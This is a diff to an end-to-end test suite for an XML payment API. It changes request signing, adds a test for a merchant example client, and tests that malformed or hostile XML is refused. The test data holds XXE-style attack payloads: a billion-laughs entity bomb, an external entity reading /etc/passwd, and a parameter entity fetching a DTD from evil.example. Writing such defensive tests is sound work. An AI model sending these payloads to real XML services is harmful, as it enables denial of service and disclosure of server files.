@@ -1,7 +1,7 @@
-import { xmlSignature } from '@kassa/adapters-xml';
+import { signXmlRequest } from '@kassa/protocol';
 import { XMLParser } from 'fast-xml-parser';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { dataOf, eventually, FLAGGED, fresh, MERCHANT, OTHER, P, startTestKassa, type TestKassa } from './e2e.fixture.js';
+import { dataOf, EXAMPLES, eventually, FLAGGED, fresh, MERCHANT, OTHER, P, startTestKassa, type TestKassa } from './e2e.fixture.js';
 import { xmlSchemaCheck, type XmlSchemaCheck } from './testing/xml-schema-check.js';
 import { XML_SCHEMA_PATH, XML_SERVICE_PATH } from './xml-endpoints.js';
 
@@ -28,10 +28,15 @@ const parser = new XMLParser({ parseTagValue: false, processEntities: false });
 function requestXml(operation: string, body: string, options: { projectId?: number; login?: string; password?: string; now?: string; signature?: string } = {}): string {
   const login = options.login ?? MERCHANT.login;
   const now = options.now ?? nowUtc();
-  const signature = options.signature ?? xmlSignature(options.password ?? MERCHANT.password, login, now);
-  secretsSent.add(signature);
   for (const m of body.matchAll(/<PAN>([^<]+)</g)) secretsSent.add(m[1] as string);
-  return `<?xml version="1.0" encoding="utf-8"?><Request><Header><Authentication><Login>${login}</Login><NowUtc>${now}</NowUtc><Signature>${signature}</Signature></Authentication></Header><${operation}Request><ProjectID>${options.projectId ?? P.main}</ProjectID>${body}</${operation}Request></Request>`;
+  const unsigned = `<?xml version="1.0" encoding="utf-8"?><Request><Header><Authentication><Login>${login}</Login><NowUtc>${now}</NowUtc><Signature></Signature></Authentication></Header><${operation}Request><ProjectID>${options.projectId ?? P.main}</ProjectID>${body}</${operation}Request></Request>`;
+  const signed =
+    options.signature === undefined
+      ? signXmlRequest(unsigned, options.password ?? MERCHANT.password, login, now)
+      : unsigned.replace('<Signature></Signature>', `<Signature>${options.signature}</Signature>`);
+  const sent = /<Signature>([^<]+)</.exec(signed)?.[1];
+  if (sent) secretsSent.add(sent);
+  return signed;
 }
 
 interface Answer {
@@ -64,6 +69,22 @@ async function activeContract(): Promise<{ msisdn: string; mcid: string; contrac
   expect(await codeOf('AuthorizeCustomerContract', `<ContractID>${contractId}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('0');
   return { msisdn, mcid, contractId, orderId };
 }
+
+describe("the merchant's example client (examples/xml-client.mjs, node:crypto only)", () => {
+  it('signs as the protocol package does, and Kassa answers its GetInvoice', async () => {
+    const example = (await import(`${EXAMPLES}xml-client.mjs`)) as {
+      signXmlRequest: (doc: string, password: string, login: string, now: string) => string;
+      getInvoiceRequest: (login: string, password: string, projectId: number, invoiceId: string) => string;
+    };
+    const unsigned = `<Request><Header><Authentication><Login>a</Login><NowUtc>n</NowUtc><Signature></Signature></Authentication></Header><X>Заказ</X></Request>`;
+    expect(example.signXmlRequest(unsigned, 'p', 'a', 'n')).toBe(signXmlRequest(unsigned, 'p', 'a', 'n'));
+    const { msisdn, orderId } = fresh();
+    const created = await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`);
+    const invoiceId = String(dataOfXml(created, 'CreateInvoice')['InvoiceID']);
+    const answer = await post(example.getInvoiceRequest(MERCHANT.login, MERCHANT.password, P.main, invoiceId));
+    expect([answer.response.ResultCode, dataOfXml(answer, 'GetInvoice')['InvoiceID']]).toEqual(['0', invoiceId]);
+  });
+});
 
 describe('the XSD', () => {
   it('is served at /API/XML/InvoiceManagementService.xsd as an XML Schema; other methods are refused in XML', async () => {
@@ -182,18 +203,31 @@ describe('XML 2.9 authentication', () => {
 
 describe('hostile XML: refused with an XML answer and a ResultCode, never JSON, never a 5xx', () => {
   const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><Request>&lol2;</Request>`;
+  /** The merchant's signed Header; `doc(header)` builds the document around it, which is signed as it is. */
+  const signedRaw = (doc: (header: string) => string) => {
+    const now = nowUtc();
+    return signXmlRequest(
+      doc(`<Header><Authentication><Login>${MERCHANT.login}</Login><NowUtc>${now}</NowUtc><Signature></Signature></Authentication></Header>`),
+      MERCHANT.password,
+      MERCHANT.login,
+      now,
+    );
+  };
+  // A DOCTYPE or a wrong content type is refused before anything else (a cheap check, no parse).
   const cases: [string, string, { contentType?: string }, number, string][] = [
     ['billion laughs (DOCTYPE with entities)', billionLaughs, {}, 400, '11'],
     ['an external entity', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Request>&x;</Request>', {}, 400, '11'],
     ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Request/>', {}, 400, '11'],
     ['a doctype in lower case after a comment', '<!-- hi --><!doctype Request><Request/>', {}, 400, '11'],
-    ['truncated', '<Request><Header><Authentication><Login>x</Log', {}, 400, '12'],
-    ['wrong nesting', '<Request><A><B></A></B></Request>', {}, 400, '12'],
-    ['nesting beyond the limit', `<Request>${'<a>'.repeat(40)}${'</a>'.repeat(40)}</Request>`, {}, 400, '13'],
-    ['another root element', '<Envelope><Body/></Envelope>', {}, 400, '14'],
-    ['two root elements', '<Request/><Request/>', {}, 400, '14'],
-    ['JSON as XML', '{"a":1}', {}, 400, '12'],
     ['a wrong content type', '<Request/>', { contentType: 'application/json' }, 415, '15'],
+  ];
+  // Broken documents reach the parser only once their signature holds: signed, each is refused for what is wrong with it; unsigned, as unauthenticated (101).
+  const broken: [string, (header: string) => string, string][] = [
+    ['truncated', (h) => `<Request>${h}<GetInvoiceRequest><ProjectID>1</Pro`, '12'],
+    ['wrong nesting', (h) => `<Request>${h}<A><B></A></B></Request>`, '12'],
+    ['nesting beyond the limit', (h) => `<Request>${h}${'<a>'.repeat(40)}${'</a>'.repeat(40)}</Request>`, '13'],
+    ['another root element', (h) => `<Envelope>${h}<Body/></Envelope>`, '14'],
+    ['two root elements', (h) => `<Request>${h}</Request><Request/>`, '14'],
   ];
   it('a method other than POST is 405 in XML, not the JSON 404', async () => {
     const res = await fetch(`${t.kassa.urls.api}${XML_SERVICE_PATH}`);
@@ -203,6 +237,15 @@ describe('hostile XML: refused with an XML answer and a ResultCode, never JSON, 
   it.each(cases)('%s', async (_name, body, options, status, code) => {
     const a = await post(body, options);
     expect([a.status, a.contentType, a.response.ResultCode]).toEqual([status, 'text/xml; charset=utf-8', code]);
+  });
+  it.each(broken)('%s: signed, refused by the parser; unsigned or wrongly signed, never parsed (101)', async (_name, doc, code) => {
+    const signed = await post(signedRaw(doc));
+    expect([signed.status, signed.contentType, signed.response.ResultCode]).toEqual([400, 'text/xml; charset=utf-8', code]);
+    const wrong = await post(signedRaw(doc).replace(/<Signature>[0-9a-f]{64}/, `<Signature>${'ab'.repeat(32)}`));
+    expect([wrong.status, wrong.response.ResultCode]).toEqual([200, '101']);
+  });
+  it('JSON as XML, and any body without the Header: 101, unauthenticated', async () => {
+    for (const body of ['{"a":1}', '<Request/>', '<Request><A><B></A></B></Request>']) expect((await post(body)).response.ResultCode).toBe('101');
   });
 
   it('a document over 64 KB is 413 with ResultCode 10; a repeated ProjectID is 100', async () => {
